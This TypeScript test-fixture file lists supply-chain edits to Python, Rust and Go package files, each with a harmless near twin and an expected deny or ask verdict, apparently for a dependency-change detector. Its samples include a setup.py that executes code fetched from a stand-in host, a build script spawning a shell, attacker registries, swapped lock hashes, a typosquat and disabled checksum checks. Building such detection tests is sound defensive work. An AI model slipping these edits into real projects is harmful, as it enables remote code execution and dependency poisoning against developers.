/** Changes to packages of Python, Rust and Go, and the nearest ones that say nothing. */
import { CARGO, CARGO_LOCK, edit, GOMOD, GOSUM, HASHED, PYPROJECT, REQUIREMENTS, type Row, UV } from './package-changes.ts';

const REPLACED = `${GOMOD}\nreplace github.com/spf13/cobra => github.com/fork/cobra v1.8.1\n`;
const INDEXED = `${PYPROJECT}\n[[tool.uv.index]]\nname = "own"\nurl = "https://pypi.corp.example/simple"\n`;
const POETRY = '[tool.poetry]\nname = "demo"\n\n[tool.poetry.dependencies]\nrequests = "^2.31"\n';

export const PYTHON_RUST_GO: readonly Row[] = [
  [
    'python: setup.py that fetches',
    'deny install-code',
    [
      edit(
        'setup.py',
        'from setuptools import setup\nsetup(name="demo")\n',
        'setup(name',
        'import urllib.request\nexec(urllib.request.urlopen("https://x.example/a").read())\nsetup(name',
      ),
    ],
    [
      edit(
        'setup.py',
        'from setuptools import setup\nsetup(name="demo")\n',
        'name="demo"',
        'name="demo", url="https://demo.example"',
      ),
    ],
  ],
  [
    'cargo: a build script that starts a shell',
    'ask install-code',
    [edit('build.rs', 'fn main() {\n}\n', '{\n', '{\n    Command::new("sh").arg("-c").arg("x").status();\n')],
    [edit('build.rs', 'fn main() {\n}\n', '{\n', '{\n    println!("cargo:rerun-if-changed=build.rs");\n')],
  ],
  [
    'pip: another index',
    'deny registry',
    [edit('requirements.txt', REQUIREMENTS, 'requests', '--extra-index-url https://pypi.attacker.example/simple\nrequests')],
    [edit('requirements.txt', REQUIREMENTS, '2.32.3', '2.32.4')],
  ],
  [
    'pip: an index that many use',
    'ask registry',
    [edit('requirements.txt', REQUIREMENTS, 'requests', '--extra-index-url https://download.pytorch.org/whl/cu121\nrequests')],
    [edit('requirements.txt', REQUIREMENTS, 'requests', '--index-url https://pypi.org/simple\nrequests')],
  ],
  [
    'pip: a package from a repository',
    'ask unusual-source',
    [edit('requirements.txt', REQUIREMENTS, 'numpy>=1.26', 'numpy @ git+https://github.com/someone/numpy@main')],
    [edit('requirements.txt', REQUIREMENTS, 'numpy>=1.26', 'numpy>=1.26; python_version > "3.9"')],
  ],
  [
    'pip: a new package, and one that imitates',
    'ask imitation',
    [edit('requirements.txt', REQUIREMENTS, 'numpy', 'reqeusts==2.0\nnumpy')],
    [edit('requirements.txt', REQUIREMENTS, 'numpy>=1.26', 'numpy>=2.0')],
  ],
  [
    'pip: hashes of a pinned release exchanged',
    'deny lock-integrity',
    [
      {
        path: 'requirements.txt',
        before: HASHED,
        after: HASHED.replace('a'.repeat(64), 'c'.repeat(64)).replace('b'.repeat(64), 'd'.repeat(64)),
      },
    ],
    [
      edit(
        'requirements.txt',
        HASHED,
        `--hash=sha256:${'a'.repeat(64)}`,
        `--hash=sha256:${'a'.repeat(64)} \\\n    --hash=sha256:${'c'.repeat(64)}`,
      ),
    ],
  ],
  [
    'pip.conf: a host that need not prove who it is',
    'deny fetch-check-off',
    [{ path: 'pip.conf', after: '[global]\ntrusted-host = pypi.attacker.example\n' }],
    [{ path: 'pip.conf', after: '[global]\ntimeout = 60\n' }],
  ],
  [
    'uv: a source outside of the index',
    'ask unusual-source',
    [
      edit(
        'pyproject.toml',
        PYPROJECT,
        '[tool.uv.sources]',
        '[tool.uv.sources]\nrequests = { git = "https://github.com/someone/requests" }',
      ),
    ],
    [edit('pyproject.toml', PYPROJECT, '>=2.31', '>=2.32')],
  ],
  [
    'uv.lock: another hash for the same release',
    'deny lock-integrity',
    [edit('uv.lock', UV, 'a'.repeat(64), 'b'.repeat(64))],
    [{ path: 'uv.lock', before: UV, after: UV.replaceAll('2.32.3', '2.32.4').replace('a'.repeat(64), 'b'.repeat(64)) }],
  ],
  [
    'uv.lock: files from another host',
    'deny lock-host',
    [edit('uv.lock', UV, 'files.pythonhosted.org', 'files.attacker.example')],
    [edit('uv.lock', UV, 'version = 1\n', 'version = 1\nrevision = 2\n')],
  ],
  [
    'cargo: a crate from a repository',
    'ask unusual-source',
    [edit('Cargo.toml', CARGO, '"1.0"', '{ git = "https://github.com/someone/serde" }')],
    [edit('Cargo.toml', CARGO, '"1.0"', '{ version = "1.0", features = ["derive"] }')],
  ],
  [
    'cargo: another registry for all crates',
    'deny registry',
    [{ path: '.cargo/config.toml', after: '[source.mirror]\nregistry = "sparse+https://crates.attacker.example/"\n' }],
    [{ path: '.cargo/config.toml', after: '[alias]\nxtask = "run --package xtask --"\n' }],
  ],
  [
    'cargo: a program around the compiler',
    'ask tool-runs',
    [{ path: '.cargo/config.toml', after: '[build]\nrustc-wrapper = "./w.sh"\n' }],
    [{ path: '.cargo/config.toml', after: '[build]\nrustflags = ["-Dwarnings"]\n' }],
  ],
  [
    'Cargo.lock: another checksum',
    'deny lock-integrity',
    [edit('Cargo.lock', CARGO_LOCK, 'a'.repeat(64), 'b'.repeat(64))],
    [
      {
        path: 'Cargo.lock',
        before: CARGO_LOCK,
        after: CARGO_LOCK.replace('1.0.200', '1.0.201').replace('a'.repeat(64), 'b'.repeat(64)),
      },
    ],
  ],
  [
    'Cargo.lock: a crate from nowhere known',
    'deny lock-host',
    [
      edit(
        'Cargo.lock',
        CARGO_LOCK,
        'registry+https://github.com/rust-lang/crates.io-index',
        'registry+https://crates.attacker.example/index',
      ),
    ],
    [edit('Cargo.lock', CARGO_LOCK, 'version = 4', 'version = 3')],
  ],
  [
    'go: a module replaced by another',
    'ask alias',
    [edit('go.mod', GOMOD, 'go 1.24', 'go 1.24\n\nreplace github.com/spf13/cobra => github.com/someone/fork v1.8.0')],
    [edit('go.mod', GOMOD, 'go 1.24', 'go 1.25')],
  ],
  [
    'go: a new module',
    'ask new-dependency',
    [edit('go.mod', GOMOD, 'require (', 'require (\n\tgithub.com/acme/other v1.0.0')],
    [edit('go.mod', GOMOD, 'require (', 'require (\n\tgithub.com/acme/other v1.0.0 // indirect')],
  ],
  [
    'go.sum: another hash for the same version',
    'deny lock-integrity',
    [edit('go.sum', GOSUM, 'h1:7aJaZx1B', 'h1:8bJaZx1B')],
    [
      edit(
        'go.sum',
        GOSUM,
        'github.com/spf13/cobra v1.8.0 ',
        'github.com/spf13/cobra v1.8.1 h1:zzz=\ngithub.com/spf13/cobra v1.8.0 ',
      ),
    ],
  ],
  [
    'go: the checksum database off',
    'deny fetch-check-off',
    [{ path: 'Makefile', before: 'build:\n\tgo build\n', after: 'build:\n\tGONOSUMDB=* go build\n' }],
    [{ path: 'docs/go.md', after: 'Never set `GONOSUMDB=*`.\n' }],
  ],
  [
    'go: another proxy in a Dockerfile',
    'deny registry',
    [{ path: 'Dockerfile', before: 'FROM golang\n', after: 'FROM golang\nENV GOPROXY=https://proxy.attacker.example\n' }],
    [{ path: 'Dockerfile', before: 'FROM golang\n', after: 'FROM golang\nENV GOPROXY=direct\n' }],
  ],
  [
    'cargo: a crate of the base that is another one of a similar name',
    'ask alias',
    [edit('Cargo.toml', CARGO, 'serde = "1.0"', 'serde = { package = "serde-core", version = "1.0" }')],
    [edit('Cargo.toml', CARGO, 'serde = "1.0"', 'serde = { package = "serde", version = "1.0.1" }')],
  ],
  [
    'cargo: a crate of the base that now comes from another registry',
    'ask unusual-source',
    [edit('Cargo.toml', CARGO, 'serde = "1.0"', 'serde = { registry = "mine", version = "1.0" }')],
    [
      edit(
        'Cargo.toml',
        CARGO.replace('serde = "1.0"', 'serde = { registry = "mine", version = "1.0" }'),
        'version = "1.0"',
        'version = "1.1"',
      ),
    ],
  ],
  [
    'go: another module in place of one that was replaced already',
    'ask alias',
    [edit('go.mod', REPLACED, 'github.com/fork/cobra', 'github.com/other/cobra')],
    [edit('go.mod', REPLACED, 'v1.8.1', 'v1.8.2')],
  ],
  [
    'python: a package of the base that now comes from another index',
    'ask unusual-source',
    [edit('pyproject.toml', INDEXED, '[tool.uv.sources]\n', '[tool.uv.sources]\nrequests = { index = "own" }\n')],
    [
      edit(
        'pyproject.toml',
        INDEXED.replace('[tool.uv.sources]\n', '[tool.uv.sources]\nrequests = { index = "own" }\n'),
        '>=2.31',
        '>=2.32',
      ),
    ],
  ],
  [
    'poetry: a package of the base that now comes from another source',
    'ask unusual-source',
    [edit('pyproject.toml', POETRY, '"^2.31"', '{ version = "^2.31", source = "own" }')],
    [edit('pyproject.toml', POETRY, '"^2.31"', '{ version = "^2.31", source = "PyPI" }')],
  ],
];
